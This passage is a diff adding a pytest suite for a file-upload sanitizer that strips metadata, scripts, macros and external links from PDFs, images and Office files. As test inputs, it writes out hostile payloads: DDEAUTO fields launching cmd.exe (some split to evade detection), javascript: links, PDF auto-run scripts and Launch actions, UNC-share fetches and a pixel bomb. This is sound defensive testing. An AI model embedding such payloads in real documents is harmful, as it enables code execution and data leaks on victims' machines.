@@ -1,0 +1,892 @@
+"""What a file really is, and the copy of it that is kept: nothing that runs, opens, hides or tells too much."""
+
+import io
+import zipfile
+import zlib
+from pathlib import Path
+
+import pikepdf
+import pytest
+from PIL import ExifTags, Image
+
+from dialogues.files.sanitizers import EXTENSIONS, Unclean, clean, confined, images, office
+from dialogues.files.sanitizers.confined import clean_apart
+from tests.dialogues.samples import (
+    DOCX,
+    EMF,
+    EXCEL,
+    JPEG,
+    MARK,
+    PDF,
+    PNG,
+    PRINTER,
+    SCRIPT,
+    WORD,
+    XLSX,
+    docx,
+    full_docx,
+    full_xlsx,
+    pdf,
+    picture,
+    relations,
+    types,
+    xlsx,
+    zipped,
+)
+from tiptracker.sandbox import Sandbox
+
+
+@pytest.mark.parametrize(
+    ("extension", "content", "media_type"),
+    [
+        (".pdf", PDF, "application/pdf"),
+        (".docx", DOCX, WORD),
+        (".xlsx", XLSX, EXCEL),
+        (".png", PNG, "image/png"),
+        (".jpg", JPEG, "image/jpeg"),
+        (".jpeg", JPEG, "image/jpeg"),
+        (".txt", "Lengolo la ’Muso\r\n".encode(), "text/plain"),
+        (".csv", "\ufeffdistrict;cases\r\nMaseru;3\r\n".encode(), "text/csv"),
+    ],
+)
+def test_file_is_taken_for_what_its_content_is(extension, content, media_type):
+    cleaned = clean(content, extension)
+
+    assert cleaned.media_type == media_type
+    assert clean_apart(content, extension, run=Sandbox(None)) == cleaned
+    assert clean(cleaned.content, extension).media_type == media_type
+
+
+def test_extensions_offered_are_those_that_are_taken():
+    assert EXTENSIONS == (".pdf", ".docx", ".xlsx", ".txt", ".csv", ".jpg", ".jpeg", ".png")
+
+
+def refused(content, extension, match):
+    with pytest.raises(Unclean, match=match):
+        clean(content, extension)
+
+
+def changed(content, **parts):
+    """A zip with some parts changed, or left out where None is given."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        kept = {name: archive.read(name) for name in archive.namelist()}
+    return zipped({name: part for name, part in (kept | parts).items() if part is not None})
+
+
+@pytest.mark.parametrize(
+    ("extension", "content"),
+    [
+        (".pdf", b"just words"),
+        (".pdf", b"%PDF-1.7\n a truncated one"),
+        (".pdf", PDF[: len(PDF) // 2]),
+        (".pdf", b"MZ\x90\x00" + PDF),
+        (".pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"),
+        (".docx", DOCX[:60]),
+        (".docx", DOCX[:-30]),
+        (".docx", changed(DOCX, **{"[Content_Types].xml": None})),
+        (".docx", zipped({"[Content_Types].xml": types(), "readme.xml": "<a/>"})),
+        (".docx", changed(DOCX, **{"[Content_Types].xml": types()})),
+        (".docx", docx(**{"word/document.xml": "<w:document>"})),
+        (".docx", docx(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'})),
+        (".docx", docx(**{"../word/more.xml": "<a/>"})),
+        (".docx", docx(**{"WORD/document.xml": "<a/>"})),
+        (".png", PNG[:-40]),
+        (".png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 100),
+        (".jpg", JPEG[: len(JPEG) // 2]),
+        (".jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 100),
+        (".png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
+    ],
+    ids=[
+        "words as pdf",
+        "pdf in name alone",
+        "pdf cut off",
+        "program with a pdf behind",
+        "pdf without a page",
+        "zip cut off",
+        "zip without its end",
+        "zip without content types",
+        "zip of nothing known",
+        "zip without a main part",
+        "part that is no xml",
+        "part with a document type",
+        "part outside the zip",
+        "two parts of one name",
+        "png cut off",
+        "png in name alone",
+        "jpeg cut off",
+        "jpeg in name alone",
+        "svg as png",
+    ],
+)
+def test_file_that_is_not_what_its_name_says_is_refused(extension, content):
+    refused(content, extension, "is named like an? .*, but its content is damaged or something else")
+
+
+@pytest.mark.parametrize(
+    ("extension", "content", "called"),
+    [
+        (".docx", PDF, "a PDF"),
+        (".pdf", PNG, "a PNG picture"),
+        (".xlsx", DOCX, "a Word document"),
+        ("", XLSX, "an Excel workbook"),
+        (".exe", PDF, "a PDF"),
+        (".txt", PDF, "a PDF"),
+        (".csv", XLSX, "an Excel workbook"),
+    ],
+)
+def test_file_named_for_something_else_is_told_what_it_is(extension, content, called):
+    refused(content, extension, f"is {called} by its content, but its name doesn't end in")
+
+
+@pytest.mark.parametrize("extension", [".exe", ".html", ".svg", ".zip", "", ".doc", ".docm"])
+@pytest.mark.parametrize("content", [b"MZ\x90\x00 whatever it is", b"<html></html>", zipped({"a.txt": "a"})])
+def test_file_of_another_sort_is_told_what_is_taken(extension, content):
+    refused(content, extension, r"Send a PDF, a Word or Excel file \(.docx, .xlsx\), a text \(.txt, .csv\) or a")
+
+
+# --- Pictures ---------------------------------------------------------------------------------------------------------
+
+
+def photograph(orientation=1):
+    """A picture whose upper left corner is black, taken at a place, with a word behind its end."""
+    taken = Image.new("RGB", (64, 48), "white")
+    taken.paste("black", (0, 0, 16, 16))
+    exif = Image.Exif()
+    exif[ExifTags.Base.Orientation] = orientation
+    exif[ExifTags.Base.Make] = "Telephone of Thabo"
+    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (29.0, 18.0, 36.0)
+    made = io.BytesIO()
+    taken.save(made, "JPEG", exif=exif, comment="Telephone of Thabo", quality=95)
+    return made.getvalue() + b"<script>Telephone</script>"
+
+
+@pytest.mark.parametrize(
+    ("orientation", "size", "corner"),
+    [
+        (1, (64, 48), (4, 4)),
+        (2, (64, 48), (60, 4)),
+        (3, (64, 48), (60, 44)),
+        (4, (64, 48), (4, 44)),
+        (5, (48, 64), (4, 4)),
+        (6, (48, 64), (44, 4)),
+        (7, (48, 64), (44, 60)),
+        (8, (48, 64), (4, 60)),
+    ],
+)
+def test_picture_is_turned_upright_and_tells_neither_place_nor_owner(orientation, size, corner):
+    sent = photograph(orientation)
+    cleaned = clean(sent, ".jpg").content
+
+    assert b"Telephone" in sent
+    assert b"Telephone" not in cleaned
+    with Image.open(io.BytesIO(cleaned)) as kept:
+        assert (kept.format, kept.size, dict(kept.getexif())) == ("JPEG", size, {})
+        assert "comment" not in kept.info
+        assert kept.getpixel(corner)[0] < 40
+
+
+def test_png_loses_its_texts_and_keeps_its_pixels_and_transparency():
+    drawn = Image.effect_noise((64, 48), 50).convert("RGBA")
+    drawn.putpixel((0, 0), (0, 0, 0, 0))
+    exif = Image.Exif()
+    exif[ExifTags.Base.Make] = "Telephone of Thabo"
+    sent = io.BytesIO()
+    drawn.save(sent, "PNG", exif=exif, icc_profile=b"Telephone")
+    cleaned = clean(sent.getvalue(), ".png").content
+
+    with Image.open(io.BytesIO(cleaned)) as kept:
+        assert kept.tobytes() == drawn.tobytes()
+        assert kept.info == {}
+
+
+@pytest.mark.parametrize("mode", ["1", "L", "P", "LA", "RGB", "RGBA", "I;16"])
+def test_png_of_every_kind_is_drawn_anew(mode):
+    made = io.BytesIO()
+    (Image.new(mode, (8, 8)) if mode == "I;16" else Image.effect_noise((8, 8), 9).convert(mode)).save(made, "PNG")
+
+    with Image.open(io.BytesIO(clean(made.getvalue(), ".png").content)) as kept:
+        assert kept.mode == mode
+
+
+@pytest.mark.parametrize(("mode", "kept_as"), [("L", "L"), ("CMYK", "RGB")])
+def test_jpeg_of_every_kind_is_drawn_anew(mode, kept_as):
+    with Image.open(io.BytesIO(clean(picture("JPEG", mode=mode), ".jpg").content)) as kept:
+        assert kept.mode == kept_as
+
+
+def test_picture_made_to_fill_the_memory_is_refused(monkeypatch):
+    monkeypatch.setattr(images, "MOST_PIXELS", 64 * 48 - 1)
+    refused(PNG, ".png", "million pixels. Save it smaller")
+
+
+def test_picture_that_pillow_calls_a_bomb_is_refused_before_it_is_unpacked():
+    bomb = bytearray(PNG)
+    bomb[16:24] = (60_000).to_bytes(4) * 2
+    bomb[29:33] = zlib.crc32(bomb[12:29]).to_bytes(4)
+
+    refused(bytes(bomb), ".png", "has more than 50 million pixels. Save it smaller")
+
+
+# --- PDFs -------------------------------------------------------------------------------------------------------------
+
+
+def attach(pdf):
+    pdf.attachments["list.exe"] = MARK
+
+
+def embed_by_annotation(pdf):
+    file = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="a", EF=pikepdf.Dictionary(F=pdf.make_stream(MARK)))
+    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, FS=file)
+    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(note)]))
+
+
+def in_a_button(pdf):
+    """A script of a form's field: first of a chain, and on its own in what happens with the field."""
+    harmless = pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage, Next=pikepdf.Array([SCRIPT]))
+    field = pikepdf.Dictionary(
+        Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, T="b", A=harmless, AA=pikepdf.Dictionary(F=SCRIPT)
+    )
+    pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(field)])
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([pdf.pages[0].Annots[0]]))
+
+
+def put(**keys):
+    return lambda pdf: [pdf.Root.__setattr__(name, value) for name, value in keys.items()]
+
+
+def drawn_from_elsewhere(**keys):
+    """A drawing on the page, whose stream has `keys` of its own."""
+
+    def change(pdf):
+        drawing = pdf.make_stream(b"0 0 1 1 re f", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, **keys)
+        pdf.pages[0].Resources.XObject = pikepdf.Dictionary(Fm0=drawing)
+
+    return change
+
+
+def leading_to(address, **keys):
+    link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=address, **keys)
+    return lambda pdf: setattr(pdf.pages[0], "Annots", pikepdf.Array([pikepdf.Dictionary(A=link)]))
+
+
+SHARE = "\\\\server\\" + MARK.decode()
+LAUNCH = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=MARK.decode())
+UNKNOWN = pikepdf.Dictionary(S=pikepdf.Name.Fetch, D=MARK.decode())
+PROJECTS = pikepdf.Dictionary(Subtype=pikepdf.Name.Projection, Contents=MARK.decode())
+PLAYS = pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia, RichMediaContent=pikepdf.Dictionary(X=MARK.decode()))
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        put(OpenAction=SCRIPT),
+        put(AA=pikepdf.Dictionary(WC=SCRIPT)),
+        put(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", SCRIPT])))),
+        put(Outlines=pikepdf.Dictionary(First=pikepdf.Dictionary(Title="a", A=LAUNCH))),
+        put(AcroForm=pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=MARK.decode())),
+        put(AF=pikepdf.Array([pikepdf.Dictionary(F=MARK.decode())])),
+        attach,
+        embed_by_annotation,
+        in_a_button,
+        lambda pdf: setattr(pdf.pages[0], "AA", pikepdf.Dictionary(O=SCRIPT)),
+        lambda pdf: setattr(pdf.pages[0], "Annots", pikepdf.Array([PLAYS])),
+        put(
+            Outlines=pikepdf.Dictionary(First=pikepdf.Dictionary(A=pikepdf.Dictionary(S=pikepdf.Name.Thread, F=SHARE)))
+        ),
+        leading_to(f"file:{MARK.decode()}"),
+        leading_to(SHARE),
+        leading_to(MARK.decode()),
+        leading_to(pikepdf.Name(f"/{MARK.decode()}")),
+        put(SpiderInfo=pikepdf.Dictionary(C=SHARE)),
+        put(URI=pikepdf.Dictionary(Base=f"file:{MARK.decode()}")),
+        put(Names=pikepdf.Dictionary(URLS=pikepdf.Dictionary(Names=pikepdf.Array([SHARE, pikepdf.Dictionary()])))),
+        put(Outlines=pikepdf.Dictionary(First=pikepdf.Dictionary(A=UNKNOWN))),
+        put(
+            Outlines=pikepdf.Dictionary(
+                First=pikepdf.Dictionary(A=pikepdf.Dictionary(S=pikepdf.Name.GoTo, Next=pikepdf.Array([UNKNOWN])))
+            )
+        ),
+        lambda pdf: setattr(pdf.pages[0], "Annots", pikepdf.Array([PROJECTS])),
+        drawn_from_elsewhere(Ref=pikepdf.Dictionary(F=SHARE, Page=0)),
+        drawn_from_elsewhere(F=SHARE, FFilter=pikepdf.Name.FlateDecode),
+        drawn_from_elsewhere(OPI=pikepdf.Dictionary({"/1.3": pikepdf.Dictionary(F=SHARE)})),
+    ],
+    ids=[
+        "run when opened",
+        "run when closed",
+        "named script",
+        "program behind a bookmark",
+        "form in XML",
+        "associated file",
+        "attached file",
+        "file behind a note",
+        "script behind a button",
+        "script of a page",
+        "film",
+        "thread of another file",
+        "link to a file",
+        "link to a share",
+        "link to a file beside it",
+        "link that is no text",
+        "pages of the web it was made from",
+        "where links begin",
+        "named pages of the web",
+        "action that nobody knows",
+        "action that nobody knows behind another",
+        "annotation that nobody knows",
+        "page of another file",
+        "content in another file",
+        "picture of another file",
+    ],
+)
+@pytest.mark.parametrize("packed", [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate])
+def test_what_a_pdf_could_run_or_carry_along_is_taken_out(change, packed):
+    sent = pdf(change, object_stream_mode=packed, compress_streams=False)
+    assert MARK in pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
+    with pikepdf.open(io.BytesIO(clean(sent, ".pdf").content)) as kept:
+        assert len(kept.pages) == 1
+        assert b"To whom it may concern" in kept.pages[0].Contents.read_bytes()
+        assert not kept.attachments
+        told = b"".join(
+            row.stream_dict.unparse() + row.read_raw_bytes() if isinstance(row, pikepdf.Stream) else row.unparse(True)
+            for row in kept.objects
+        )
+    assert MARK not in told
+
+
+@pytest.mark.parametrize("address", ["https://example.org/report", "HTTP://example.org", "mailto:a@example.org"])
+def test_links_and_notes_of_a_pdf_stay(address):
+    link = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=address))
+    cleaned = clean(pdf(lambda pdf: setattr(pdf.pages[0], "Annots", pikepdf.Array([link, PLAYS]))), ".pdf").content
+
+    with pikepdf.open(io.BytesIO(cleaned)) as kept:
+        (note,) = kept.pages[0].Annots
+        assert str(note.A.URI) == address
+
+
+def test_drawing_that_lies_in_the_pdf_itself_stays():
+    with pikepdf.open(io.BytesIO(clean(pdf(drawn_from_elsewhere(F=SHARE)), ".pdf").content)) as kept:
+        assert kept.pages[0].Resources.XObject.Fm0.read_bytes() == b"0 0 1 1 re f"
+
+
+@pytest.mark.parametrize("user", ["", "a secret"], ids=["only against changes", "to open it"])
+def test_pdf_with_a_password_is_refused_and_told_what_to_do(user):
+    locked = pdf(encryption=pikepdf.Encryption(owner="another secret", user=user))
+    refused(locked, ".pdf", "has a password, or is protected against changes. Print it to a PDF without one")
+
+
+def test_pdf_that_says_nothing_without_what_is_taken_out_is_refused():
+    refused(pdf(put(Collection=pikepdf.Dictionary())), ".pdf", "is a portfolio with other files in it. Send each")
+    refused(pdf(put(NeedsRendering=True)), ".pdf", "is a form that only Adobe's own programs can draw. Print it")
+
+
+def test_what_lies_behind_or_between_the_parts_of_a_file_is_left_behind():
+    assert MARK not in clean(PDF[:-6] + b"%" + MARK + b"\n%%EOF\n", ".pdf").content
+    assert MARK not in clean(DOCX[:-2] + len(MARK).to_bytes(2, "little") + MARK, ".docx").content
+    assert MARK not in clean(PNG + MARK, ".png").content
+
+
+# --- Word and Excel ---------------------------------------------------------------------------------------------------
+
+
+def test_document_keeps_its_parts_and_its_pictures_tell_no_place():
+    pictures = '<a:blip r:embed="r0"/><a:blip r:embed="r1"/>'
+    sent = in_document(
+        f"<w:p><w:r><w:t>To whom it may concern</w:t><w:drawing>{pictures}</w:drawing></w:r></w:p>",
+        **{
+            "word/_rels/document.xml.rels": relations(("image", "media/image1.jpg"), ("image", "media/drawing.emf")),
+            "word/media/image1.jpg": photograph(),
+            "word/media/drawing.emf": EMF,
+        },
+    )
+    with zipfile.ZipFile(io.BytesIO(clean(sent, ".docx").content)) as kept:
+        assert b"To whom it may concern" in kept.read("word/document.xml")
+        assert kept.read("word/media/drawing.emf") == EMF
+        assert b"Telephone" not in kept.read("word/media/image1.jpg")
+
+
+@pytest.mark.parametrize(
+    ("name", "part"),
+    [
+        ("word/vbaProject.bin", b"a"),
+        ("word/vbaData.xml", "<a/>"),
+        ("[Content_Types].xml", types(("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))),
+        ("[Content_Types].xml", types(("word/x.bin", "application/vnd.ms-office.vbaProject"))),
+    ],
+)
+def test_document_with_macros_is_refused(name, part):
+    refused(docx(**{name: part}), ".docx", "has macros. Save it without them")
+
+
+def test_workbook_with_macros_of_old_is_refused():
+    refused(xlsx(**{"xl/macrosheets/sheet1.xml": "<a/>"}), ".xlsx", "has macros. Save it without them")
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "word/embeddings/oleObject1.bin",
+        "word/embeddings/list.xlsx",
+        "word/activeX/activeX1.bin",
+        "word/a.html",
+        "run.exe",
+    ],
+)
+def test_document_with_another_file_inside_is_refused_and_names_it(name):
+    refused(docx(**{name: b"a"}), ".docx", rf"has another file inside it \({name.rpartition('/')[2]}\). Take that out")
+
+
+LEFT_BEHIND = {
+    "customXml/item1.xml",
+    "word/printerSettings/printerSettings1.bin",
+    "word/charts/_rels/chart1.xml.rels",
+    "word/embeddings/Sheet.xlsx",
+    "xl/printerSettings/printerSettings1.bin",
+}
+"""What nobody misses who reads the document."""
+
+
+@pytest.mark.parametrize(
+    ("sent", "extension", "said"),
+    [
+        (
+            full_docx(),
+            ".docx",
+            {
+                "word/document.xml": [
+                    "PA",
+                    "GE ",
+                    "The law",
+                    "Minister of Police",
+                    "m:f",
+                    "v:imagedata",
+                    "w:hyperlink",
+                ],
+                "word/charts/chart1.xml": ["Sheet1!$A$1:$A$5"],
+            },
+        ),
+        (
+            full_xlsx(),
+            ".xlsx",
+            {
+                "xl/workbook.xml": ["One!$A:$B,One!$1:$3"],
+                "xl/worksheets/sheet1.xml": ["SUM(B1:B9)", "Cases[[#This Row],[a|b]]", "'It''s (2)'!A1"],
+                "xl/drawings/vmlDrawing1.vml": ["x:ClientData"],
+            },
+        ),
+    ],
+)
+def test_what_people_put_into_office_files_stays(sent, extension, said):
+    with zipfile.ZipFile(io.BytesIO(sent)) as made, zipfile.ZipFile(io.BytesIO(clean(sent, extension).content)) as kept:
+        assert sorted(kept.namelist()) == sorted(set(made.namelist()) - LEFT_BEHIND)
+        for name, pieces in said.items():
+            part = kept.read(name).decode()
+            assert [piece for piece in pieces if piece not in part] == []
+
+
+@pytest.mark.parametrize(
+    ("name", "said"),
+    [
+        (
+            "letter.docx",
+            {
+                "word/document.xml": ["In a box", "w:footnoteReference", "Maseru", "the law"],
+                "word/_rels/document.xml.rels": ["https://example.org/law"],
+                "word/header1.xml": [" PAGE ", " NUMPAGES "],
+                "word/footnotes.xml": ["A note."],
+            },
+        ),
+        (
+            "figures.xlsx",
+            {
+                "xl/workbook.xml": ["Cases 2021", "Total"],
+                "xl/worksheets/sheet1.xml": ["SUM(B2:B3)", "conditionalFormatting", "autoFilter", "pane "],
+                "xl/worksheets/sheet2.xml": ['HYPERLINK("', "'Cases 2021'!B4*2"],
+                "xl/charts/chart1.xml": ["'Cases 2021'!$B$2:$B$3"],
+                "xl/comments1.xml": ["A note"],
+            },
+        ),
+    ],
+)
+def test_file_that_libreoffice_wrote_keeps_what_stands_in_it(name, said):
+    sent = (Path(__file__).parent / "fixtures" / name).read_bytes()
+    with zipfile.ZipFile(io.BytesIO(clean(sent, name[-5:]).content)) as kept:
+        for part, pieces in said.items():
+            assert [piece for piece in pieces if piece not in kept.read(part).decode()] == []
+
+
+@pytest.mark.parametrize("name", ["word/media/drawing.svg", "word/printerSettings/p.bin", "word/embeddings/a.xlsx"])
+def test_what_stands_beside_something_better_is_left_behind(name):
+    """A drawing beside its copy in pixels, settings of a printer, the workbook behind a chart."""
+    kinds = {"svg": "image", "bin": "printerSettings", "xlsx": "package"}
+    source = "word/charts/_rels/chart1.xml.rels" if name.endswith("xlsx") else "word/_rels/document.xml.rels"
+    drawn = relations((kinds[name.rpartition(".")[2]], f"/{name}"))
+    sent = docx(**{name: b"MZ\x90\x00", source: drawn, "word/charts/chart1.xml": "<a/>"})
+
+    with zipfile.ZipFile(io.BytesIO(clean(sent, ".docx").content)) as kept:
+        assert name not in kept.namelist()
+    refused(docx(**{name: b"MZ\x90\x00"}), ".docx", "has another file inside it")
+
+
+@pytest.mark.parametrize(
+    ("name", "part", "kind"),
+    [
+        ("word/printerSettings/p.bin", b"MZ\x90\x00", None),
+        ("word/printerSettings/p.bin", PRINTER, None),
+        ("word/printerSettings/p.bin", PRINTER, "oleObject"),
+        ("word/printerSettings/p.bin", PRINTER, "image"),
+        ("word/printerSettings/p.bin", PRINTER, "styles"),
+        ("word/media/p.emf", EMF, "oleObject"),
+        ("word/media/p.emf", EMF, "package"),
+        ("word/media/p.emf", EMF, "font"),
+        ("word/media/p.emf", b"MZ\x90\x00" * 20, "image"),
+        ("word/media/p.wmf", b"MZ\x90\x00" * 20, "image"),
+        ("word/media/p.gif", b"MZ\x90\x00" * 20, "image"),
+        ("word/media/p.bmp", b"BMZ\x90\x00" * 20, "image"),
+        ("word/media/p.tif", b"MZ\x90\x00" * 20, "image"),
+        ("word/fonts/p.odttf", b"MZ\x90\x00" * 20, "font"),
+    ],
+)
+def test_document_with_another_file_in_disguise_is_refused(name, part, kind):
+    body = '<w:drawing><a:blip r:embed="r0"/></w:drawing>' if kind == "image" else ""
+    rows = [("fontTable", "fontTable.xml")] if kind == "font" else [(kind, f"/{name}")] if kind else []
+    more = {
+        name: part,
+        "word/_rels/document.xml.rels": relations(*rows),
+        "word/fontTable.xml": (
+            '<w:fonts xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+            '<w:font><w:embedRegular r:id="r0"/></w:font></w:fonts>'
+        ),
+        "word/_rels/fontTable.xml.rels": relations(("font", f"/{name}")),
+    }
+    if kind != "font":
+        del more["word/_rels/fontTable.xml.rels"]
+    refused(in_document(body, **more), ".docx", r"has another file inside it \(p\.")
+
+
+@pytest.mark.parametrize(
+    ("kind", "target", "match"),
+    [
+        ("vbaProject", "media/a.emf", "has macros"),
+        ("keyMapCustomizations", "a.xml", "has macros"),
+        ("customUI", "a.xml", r"holds something that can't be taken along \(customui\)\. Save it as a PDF"),
+        ("../../else/sort", "a.xml", r"holds something that can't be taken along \(sort\)\. Save it as a PDF"),
+        ("image", "https://example.org/a.png", "draws on something outside it"),
+        ("image", "//example.org/a.png", "draws on something outside it"),
+        ("styles", "media/a.bin#a.xml", "draws on something outside it"),
+        ("styles", "media/a.bin%23a.xml", "draws on something outside it"),
+        ("hyperlink", "file://server/share/list.xlsx", "draws on something outside it"),
+    ],
+)
+def test_relation_that_is_not_known_to_do_no_harm_is_refused(kind, target, match):
+    refused(docx(**{"word/_rels/document.xml.rels": relations((kind, target))}), ".docx", match)
+
+
+OUTSIDE = relations(("image", "https://example.org/a.png", "External"))
+INSIDE = relations(("image", "media/a.png"))
+
+
+@pytest.mark.parametrize(
+    ("name", "part"),
+    [
+        ("word/_rels/document.xml.rels", OUTSIDE.replace(" Id=", ' xmlns:x="x" x:TargetMode="Internal" Id=')),
+        ("word/_rels/document.xml.rels", INSIDE.replace(" Id=", ' xmlns:x="x" x:Type="/hyperlink" Id=')),
+        ("word/_rels/document.xml.rels", INSIDE.replace(" Id=", ' xmlns:x="x" x:TargetMode="External" Id=')),
+        ("word/_rels/document.xml.rels", INSIDE.replace("/package/2006/", "/package/2007/")),
+        (
+            "[Content_Types].xml",
+            types(
+                ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
+                ("word/a.xml", f"{WORD}.main+xml"),
+            ).replace(" ContentType=", ' xmlns:x="x" x:ContentType="a" ContentType='),
+        ),
+        ("[Content_Types].xml", types(("word/document.xml", f"{WORD}.main+xml")).replace("content-types", "other")),
+    ],
+)
+def test_part_that_readers_do_not_read_alike_is_refused(name, part):
+    refused(docx(**{name: part}), ".docx", "damaged or something else")
+
+
+@pytest.mark.parametrize("mode", ["external", "External ", ""])
+def test_relation_that_is_neither_inside_nor_outside_is_refused(mode):
+    sent = docx(**{"word/_rels/document.xml.rels": relations(("styles", "styles.xml", mode))})
+    refused(sent, ".docx", "draws on something outside it")
+
+
+@pytest.mark.parametrize(
+    ("kind", "target"),
+    [
+        ("image", "https://example.org/seen.png"),
+        ("oleObject", "file://server/share/list.xlsx"),
+        ("frame", "https://example.org/"),
+        ("hyperlink", "file://server/share/list.xlsx"),
+        ("hyperlink", "javascript:alert(1)"),
+    ],
+)
+def test_document_that_draws_on_what_lies_outside_is_refused(kind, target):
+    sent = docx(**{"word/_rels/document.xml.rels": relations((kind, target, "External"))})
+    refused(sent, ".docx", "draws on something outside it")
+
+
+def test_links_that_a_person_presses_stay():
+    links = relations(
+        ("hyperlink", "https://example.org/", "External"), ("hyperlink", "mailto:a@example.org", "External")
+    )
+    body = '<w:p><w:hyperlink r:id="r0"/><w:hyperlink r:id="r1"/></w:p>'
+    cleaned = clean(in_document(body, **{"word/_rels/document.xml.rels": links}), ".docx").content
+    with zipfile.ZipFile(io.BytesIO(cleaned)) as kept:
+        said = kept.read("word/_rels/document.xml.rels").decode()
+    assert 'Target="https://example.org/" TargetMode="External"' in said
+    assert 'Target="mailto:a@example.org" TargetMode="External"' in said
+
+
+def test_workbook_that_draws_on_another_is_refused():
+    sent = xlsx(**{"xl/_rels/workbook.xml.rels": relations(("externalLink", "externalLinks/externalLink1.xml"))})
+    refused(sent, ".xlsx", "draws on something outside it")
+
+
+def with_types(*kinds):
+    """The types of a document with two types for one part."""
+    return docx(**{"[Content_Types].xml": types(*[("word/document.xml", kind) for kind in kinds])})
+
+
+def test_type_of_macros_is_found_behind_another_of_the_same_part():
+    refused(with_types("application/vnd.ms-word.document.macroEnabled.main+xml", f"{WORD}.main+xml"), ".docx", "macros")
+
+
+def in_words(*runs):
+    """A document whose one paragraph holds these runs: text of a field's code, or what begins and ends a field."""
+    marks = {"{": '<w:fldChar w:fldCharType="begin"/>', "}": '<w:fldChar w:fldCharType="end"/>'}
+    said = "".join(f"<w:r>{marks.get(run, f'<w:instrText>{run}</w:instrText>')}</w:r>" for run in runs)
+    return in_document(f"<w:p>{said}</w:p>")
+
+
+def in_document(body, **more):
+    space = (
+        'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+        'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="x" mc:Ignorable="x" '
+        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
+    )
+    return docx(**{"word/document.xml": f"<w:document {space}><w:body>{body}</w:body></w:document>"} | more)
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        in_words("{", ' DDEAUTO c:\\windows\\cmd.exe "/k calc"', "}"),
+        in_words("{", "DD", "EAU", "TO c:\\windows\\cmd.exe", "}"),
+        in_words("{", "{", " QUOTE 68 68 69 ", "}", " c:\\windows\\cmd.exe", "}"),
+        in_words("{", " DD", "{", " QUOTE 69 ", "}", " c:\\windows\\cmd.exe", "}"),
+        in_words("{", ' IF 1 = 1 "', "{", 'includepicture "https://example.org/seen.png"', "}", '"', "}"),
+        in_words("{", 'INCLUDETEXT "\\\\server\\share\\list.docx"', "}"),
+        in_words("{", 'HYPERLINK "file://server/share/list.xlsx"', "}"),
+        in_words("{", "HYPERLINK javascript:alert(1)", "}"),
+        in_document('<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.12 list.xlsx "/></w:p>'),
+        in_document('<w:p><w:pict><v:shape><v:imagedata src="https://example.org/seen.png"/></v:shape></w:pict></w:p>'),
+        docx(**{"word/_rels/document.xml.rels": relations(("aFChunk", "more.xml")), "word/more.xml": "<a/>"}),
+    ],
+    ids=[
+        "program", "program in pieces", "program spelled by a field", "program half spelled", "picture in a field",
+        "text of another file", "link to a share", "script", "simple field", "drawn picture", "document inside",
+    ],
+)  # fmt: skip
+def test_document_whose_fields_fetch_something_is_refused(sent):
+    refused(sent, ".docx", "draws on something outside it")
+
+
+def in_a_field(*pieces):
+    begins, ends = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+    return in_document(f"<w:p>{begins}{''.join(pieces)}{ends}</w:p>")
+
+
+def run(code):
+    return f"<w:r><w:instrText>{code}</w:instrText></w:r>"
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        in_document('<w:p><w:fldSimple w:instr="DDEAUTO c:\\cmd.exe" x:instr="PAGE"/></w:p>'),
+        in_document('<w:pict><v:imagedata src="https://example.org/seen.png" x:src="a"/></w:pict>'),
+        in_a_field(run("<x:a></x:a>DDEAUTO c:\\cmd.exe")),
+        in_a_field(run("DDE<x:a>!</x:a>AUTO c:\\cmd.exe")),
+        in_a_field(run("DD"), f"<x:a>{run('zzz')}</x:a>", run("EAUTO c:\\cmd.exe")),
+        in_a_field(run("DD"), '<x:fldChar x:fldCharType="separate"/>', run("EAUTO c:\\cmd.exe")),
+        in_a_field(
+            "<mc:AlternateContent>",
+            f'<mc:Choice Requires="x">{run("PAGE")}</mc:Choice>',
+            f"<mc:Fallback>{run('DD')}</mc:Fallback></mc:AlternateContent>",
+            run("EAUTO c:\\cmd.exe"),
+        ),
+        in_document('<w:pict><v:image src=" https://example.org/seen.png"/></w:pict>'),
+    ],
